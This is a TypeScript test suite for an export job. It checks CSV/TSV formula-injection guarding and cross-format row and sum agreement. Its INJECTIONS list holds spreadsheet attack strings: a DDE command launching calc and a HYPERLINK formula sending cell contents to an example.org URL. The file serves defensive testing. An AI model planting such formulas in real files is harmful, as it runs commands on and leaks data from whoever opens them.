import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { BIGINT, BOOLEAN, DOUBLE, VARCHAR } from '@duckdb/node-api';
import { tableFromIPC } from 'apache-arrow';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { exports } from '../../jobs/exports/exports.ts';
import { writeText } from '../../jobs/exports/text.ts';
import { FORMULA, FORMULA_SIGNS } from '../../services/formats/formula.ts';
import { readBack as readBackBy } from '../../services/formats/read-back.ts';
import { rowFaults } from '../../services/ledger/verified.ts';
import type { PivotQuery } from '../../services/model/pivot.ts';
import type { Columns } from '../../services/model/query.ts';
import type { Added, FileFormat, Schedule, WindowRow } from '../../services/model/schedule.ts';
import { type Memory, openMemory } from '../../services/store/database.ts';
import { rowsOf } from '../../services/store/rows.ts';
import { sheetsIn } from '../formats/unzip.ts';
import { DUE_MS, folderIn, manifestIn, scheduled } from './scheduled.ts';

/** Texts that somebody may give a badge, a room or a session, to be run by who opens the file. */
const INJECTIONS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?x="&A1,"open")',
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '=1+1","=2+2',
  '"=1+1',
  '=',
];
/** What only looks like one. */
const HARMLESS = [
  'McCurdy 1',
  'a=b',
  "'quoted'",
  '',
  ' =1',
  '1-1',
  'line\r\nend',
  '"',
  'a,b',
  'ü\u{1F600}',
  '0123',
  'NULL',
];
const COLUMNS: Columns = { text: 'text', number: 'number', at: 'instant', is: 'boolean' };
type Line = { text: string | null; number: number | null; at: number | null; is: boolean | null };

describe('texts of an export', () => {
  const folder = mkdtempSync(join(tmpdir(), 'hallway-export-'));
  let memory: Memory;
  before(async () => {
    memory = await openMemory(folder);
  });
  after(() => {
    memory.close();
    rmSync(folder, { recursive: true });
  });

  /** The cells of a file of these rows, by somebody who did not write it. */
  async function written(rows: Line[], profile: Schedule['profile'], format: 'csv' | 'tsv'): Promise<string[][]> {
    const { connection } = memory;
    await connection.run(
      'CREATE OR REPLACE TABLE t (i INTEGER, text VARCHAR, number DOUBLE, "at" TIMESTAMPTZ, "is" BOOLEAN)',
    );
    const insert = await connection.prepare('INSERT INTO t VALUES ($i, $text, $number, make_timestamptz($at), $is)');
    for (const [i, { at, ...row }] of rows.entries()) {
      insert.bind(
        { i, ...row, at: at === null ? null : BigInt(at) * 1000n },
        { at: BIGINT, text: VARCHAR, number: DOUBLE, is: BOOLEAN },
      );
      await insert.run();
    }
    const [kept, file] = [join(folder, 'rows.parquet'), join(folder, `x.${format}`)];
    await connection.run('COPY (SELECT * EXCLUDE i FROM t ORDER BY i) TO $kept (FORMAT parquet)', { kept });
    await writeText(connection, kept, file, COLUMNS, { profile, format });
    const bytes = readFileSync(file);
    if (format === 'tsv')
      return bytes
        .toString()
        .split('\n')
        .slice(0, -1)
        .map((line) => line.split('\t'));
    assert.equal(bytes.toString().endsWith('\r\n'), true, 'RFC 4180');
    return parse(bytes, { relax_column_count: false, record_delimiter: '\r\n' });
  }
  const line = (text: string | null): Line => ({ text, number: -1e-7, at: Date.UTC(2026, 10, 3), is: true });

  it('spreadsheet: each text of the injection set is guarded, nothing else is touched, in CSV and TSV', async () => {
    for (const format of ['csv', 'tsv'] as const) {
      const texts = [...INJECTIONS, ...HARMLESS];
      const [head, ...cells] = await written(texts.map(line), 'spreadsheet', format);
      assert.deepEqual(head, Object.keys(COLUMNS));
      for (const [i, text] of texts.entries()) {
        const seen = format === 'tsv' ? text.replace(/[\t\r\n]+/g, ' ') : text;
        assert.equal(cells[i]![0], FORMULA.test(text) ? `'${seen}` : seen, JSON.stringify(text));
        assert.ok(!FORMULA.test(cells[i]![0]!));
        assert.deepEqual(cells[i]!.slice(1), ['-1e-07', '2026-11-03T00:00:00.000Z', 'true']);
      }
    }
  });

  it('data: every byte of a text is as it was', async () => {
    const texts = [...INJECTIONS, ...HARMLESS];
    const [, ...cells] = await written(texts.map(line), 'data', 'csv');
    assert.deepEqual(
      cells.map(([text]) => text),
      texts,
    );
  });

  it('whole numbers are written as JSON has them', async () => {
    const numbers = [1e15, -1e15, Number.MAX_SAFE_INTEGER, 123_456_789, 0.5];
    const lines = numbers.map((number): Line => ({ text: '', number, at: null, is: null }));
    const [, ...cells] = await written(lines, 'data', 'csv');
    assert.deepEqual(
      cells.map(([, number]) => number),
      numbers.map((number) => JSON.stringify(number)),
    );
  });

  it('any texts and numbers come back as they were; the signs are those of the guard', async () => {
    assert.ok(FORMULA_SIGNS.every((sign) => FORMULA.test(sign)));
    const row = fc.record({
      text: fc.option(fc.string({ unit: 'binary' }).filter((text) => !text.includes('\0'))),
      number: fc.option(fc.double({ noNaN: true, noDefaultInfinity: true }).map((x) => x + 0)),
      at: fc.option(fc.integer({ min: Date.UTC(2000, 0), max: Date.UTC(2099, 0) })),
      is: fc.option(fc.boolean()),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 20 }), async (rows) => {
        const [, ...cells] = await written(rows, 'data', 'csv');
        assert.deepEqual(
          cells.map(([text, number, at, is]) => [
            text,
            number === '' ? null : Number(number),
            at === '' ? null : Date.parse(at!),
            is,
          ]),
          rows.map(({ text, number, at, is }) => [
            text ?? '',
            number === 0 ? 0 : number,
            at,
            is === null ? '' : String(is),
          ]),
        );
      }),
      { numRuns: 30 },
    );
  });
});

const ALL: FileFormat[] = ['csv', 'tsv', 'parquet', 'arrow', 'json', 'ndjson', 'xlsx'];

/** How many rows each file of a window has, as its own readers count, and the sum of a column. */
async function readBack(folder: string, column: string): Promise<Record<string, [rows: number, sum: number]>> {
  const file = (format: string) => readFileSync(join(folder, `hourly.${format}`));
  const records = (lines: string[][]) => lines.slice(1).map((cells) => Number(cells[lines[0]!.indexOf(column)]));
  const memory = await openMemory(folder);
  const parquet: number[] = [];
  const result = await memory.connection.stream('FROM read_parquet($at)', { at: join(folder, 'hourly.parquet') });
  for await (const rows of rowsOf(result)) parquet.push(...rows.map((row) => Number(row[column])));
  memory.close();
  const [sheet] = sheetsIn(file('xlsx'));
  const at = [...sheet![0]!].find(([, { value }]) => value === column)![0];
  const texts = file('tsv')
    .toString()
    .split('\n')
    .slice(0, -1)
    .map((one) => one.split('\t'));
  const found = {
    csv: records(parse(file('csv'))),
    tsv: records(texts),
    parquet,
    arrow: tableFromIPC(file('arrow'))
      .toArray()
      .map((row) => Number(row![column])),
    json: (JSON.parse(file('json').toString()).rows as Record<string, unknown>[]).map((row) => Number(row[column])),
    ndjson: file('ndjson')
      .toString()
      .split('\n')
      .slice(0, -1)
      .map((one) => Number(JSON.parse(one)[column])),
    xlsx: sheet!.slice(1).map((cells) => Number(cells.get(at)?.value ?? 0)),
  };
  return Object.fromEntries(
    Object.entries(found).map(([name, values]) => [
      name,
      [values.length, values.reduce((sum, value) => sum + value, 0)],
    ]),
  );
}

describe('files of a window', () => {
  const questions: [string, Partial<Schedule>, string][] = [
    [
      'cells',
      {
        query: {
          dataset: 'observations',
          rows: ['room', 'badge'],
          columns: ['step:1m'],
          measures: ['count', 'sum(rssi)'],
          totals: false,
        } as PivotQuery,
      },
      'count',
    ],
    ['records', { holds: 'records', query: { dataset: 'observations', measures: ['count'] } as PivotQuery }, 'rssi'],
  ];
  for (const [holds, rest, column] of questions)
    it(`${holds}: equal rows in every format, totals as the pivot has them, and the same bytes when a revision is made again`, async () => {
      const { bench, rows, end } = await scheduled(DUE_MS, { ...rest, formats: ALL });
      try {
        await exports.tidy(bench);
        const [row] = (await rows()) as [WindowRow];
        assert.equal(row.error, null);
        const folder = folderIn(bench.house, row);
        const manifest = manifestIn(bench.house, row);
        const found = await readBack(folder, column);
        const span = { from: row.from, until: row.until };
        const total = await totalOf(bench, { dataset: 'observations', measures: ['count', 'sum(rssi)'], span });
        for (const name of ALL) {
          const [count, sum] = found[name]!;
          assert.equal(count, manifest.rows, name);
          assert.equal(sum, holds === 'cells' ? total.count : total['sum(rssi)'], name);
        }
        const added = await readBackBy(folder, manifest.files, manifest.types);
        assert.deepEqual(rowFaults(manifest, added), []);
        for (const name of ALL)
          assert.deepEqual(added.get(`hourly.${name}`), {
            rows: manifest.rows,
            sums: name === 'xlsx' ? null : (added.get('hourly.csv') as Added).sums,
          });
        assert.equal(rowFaults({ ...manifest, rows: 1 }, added).length, ALL.length);
        assert.equal(manifest.totals.count, total.count);
        assert.equal(manifest.holds, holds);
        assert.equal(Date.parse(manifest.watermark!) < row.until && Date.parse(manifest.watermark!) >= row.from, true);
        const kept = Object.fromEntries(readdirSync(folder).map((name) => [name, readFileSync(join(folder, name))]));
        const { key, version } = (await bench.ledger.list('window/'))[0]!;
        await bench.ledger.put(key, version + 1, { ...row, state: 'planned', published: null } satisfies WindowRow);
        await exports.tidy(bench);
        assert.deepEqual(Object.keys(kept).length, ALL.length + 1);
        for (const [name, bytes] of Object.entries(kept))
          assert.equal(bytes.compare(readFileSync(join(folder, name))), 0, name);
      } finally {
        await end();
      }
    });

  it('a schedule whose maker may see less is asked for no more', async () => {
    const { bench, rows, end } = await scheduled(DUE_MS, { scope: 'public' });
    try {
      await exports.tidy(bench);
      assert.deepEqual(
        (await rows()).map(({ state, error }) => [state, error]),
        [['failed', 'expected a token of the scope viewer or more for pivot, found one of public']],
      );
    } finally {
      await end();
    }
  });
});

/** The grand total that the pivot has of a question. */
async function totalOf(
  {
    ask,
    house,
  }: { ask: (asked: never, file: string) => Promise<{ total?: Record<string, number | null> }>; house: string },
  query: PivotQuery,
) {
  const { total } = await ask(
    { query, holds: 'cells', scope: 'admin' } as never,
    join(house, 'copies', 'total.parquet'),
  );
  return total!;
}
